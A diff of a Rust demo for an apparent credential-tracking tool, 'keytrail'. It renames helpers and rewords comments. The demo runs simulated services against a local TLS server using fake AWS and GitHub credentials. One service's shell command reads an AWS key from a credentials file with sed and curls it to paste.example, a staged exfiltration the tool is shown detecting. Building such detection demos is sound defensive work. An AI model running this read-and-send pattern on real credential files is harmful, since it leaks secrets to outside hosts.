@@ -1,4 +1,5 @@
-//! The main job on real processes: three workloads, two servers' names, one key too many.
+//! Demonstrates the main job on real processes: three workloads, two server names, one unexpected
+//! key.
 
 use crate::build;
 use anstyle::{AnsiColor, Style};
@@ -7,7 +8,7 @@ use indicatif::{ProgressBar, ProgressStyle};
 use lab::{
     agent::Agent,
     server::TlsServer,
-    workload::{Unit, aws_credentials},
+    workload::{TestUnit, aws_credentials},
 };
 use std::{
     io::{IsTerminal as _, Write as _},
@@ -18,7 +19,7 @@ use std::{
 const TITLE: Style = AnsiColor::Cyan.on_default().bold();
 const FAINT: Style = Style::new().dimmed();
 
-/// Obviously fake, and of the right form.
+/// Obviously fake, in the right format.
 const KEY_ID: &str = "AKIAFAKEDEMOFAKEDEMO";
 const SECRET: &str = "FAKE/demo/secret/FAKE/demo/secret/FAKEFAKE";
 const TOKEN: &str = "ghp_FAKEdemoFAKEdemoFAKEdemoFAKEdemoFAKE";
@@ -39,7 +40,7 @@ pub fn run() -> Result<()> {
     let key = aws_credentials(directory.path(), KEY_ID, SECRET)?;
     let key = key.display().to_string();
     let port = server.address.port();
-    // The key goes from the file to the client as it does in any script with curl.
+    // The key goes from the file to the client as in any script with curl.
     let with_key = |host: &str| {
         format!(
             "id=$(sed -n 's/^aws_access_key_id *= *//p' '{key}'); secret=$(sed -n 's/^aws_secret_access_key *= *//p' '{key}'); \
@@ -47,14 +48,16 @@ pub fn run() -> Result<()> {
              --connect-to ::127.0.0.1:{port} https://{host}/"
         )
     };
-    let payments = Unit::new("payments.service")?;
-    let reports = Unit::new("reports.service")?;
-    let ci = Unit::new("ci.service")?;
-    tell("payments.service reads an AWS key from a file and calls s3.eu-central-1.amazonaws.com");
+    let payments = TestUnit::new("payments.service")?;
+    let reports = TestUnit::new("reports.service")?;
+    let ci = TestUnit::new("ci.service")?;
+    narrate(
+        "payments.service reads an AWS key from a file and calls s3.eu-central-1.amazonaws.com",
+    );
     payments.sh(&with_key("s3.eu-central-1.amazonaws.com"), &[])?;
-    tell("reports.service reads the same key and sends it to paste.example");
+    narrate("reports.service reads the same key and sends it to paste.example");
     reports.sh(&with_key("paste.example"), &[])?;
-    tell("ci.service has a GitHub token in its environment and calls api.github.com");
+    narrate("ci.service has a GitHub token in its environment and calls api.github.com");
     ci.sh(
         &format!(
             "curl --silent --show-error --insecure --header \"Authorization: Bearer $GITHUB_TOKEN\" \
@@ -98,7 +101,7 @@ pub fn run() -> Result<()> {
     Ok(())
 }
 
-/// Shows a command and what it prints.
+/// Prints a command and its output.
 fn show(agent: &Agent, arguments: &[&str]) -> Result<()> {
     title(&format!("keytrail {}", arguments.join(" ")));
     let mut command = Command::new(lab::agent::binary()?);
@@ -125,7 +128,7 @@ fn title(text: &str) {
     anstream::println!("\n{TITLE}▌ {text}{TITLE:#}");
 }
 
-fn tell(text: &str) {
+fn narrate(text: &str) {
     anstream::println!("  {text}");
 }
 
